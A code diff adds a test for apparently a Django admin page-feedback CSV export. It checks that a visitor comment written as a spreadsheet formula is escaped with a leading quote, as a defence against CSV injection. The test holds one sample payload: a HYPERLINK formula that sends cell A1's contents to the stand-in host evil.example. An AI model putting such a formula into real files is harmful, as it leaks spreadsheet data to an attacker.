@@ -167,3 +167,14 @@ def test_the_csv_gives_the_public_address_and_local_time_to_the_second(editor_cl
     detail_rows = list(csv.DictReader(io.StringIO(b"".join(detail.streaming_content).decode())))
     assert detail_rows[0]["When"] == "2026-07-01 12:30:15"
     assert detail_rows[0]["How could we improve this page?"] == "Too long."
+
+
+def test_a_comment_written_as_a_spreadsheet_formula_downloads_as_text(editor_client, faq):
+    """A visitor's comment is written by anyone: opened in Excel, the CSV must not run it (OWASP's CSV injection)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    PageFeedback.objects.create(page=faq, rating="no", comment=formula)
+
+    detail = editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/?export=csv")
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(detail.streaming_content).decode())))
+    assert rows[0]["How could we improve this page?"] == f"'{formula}"
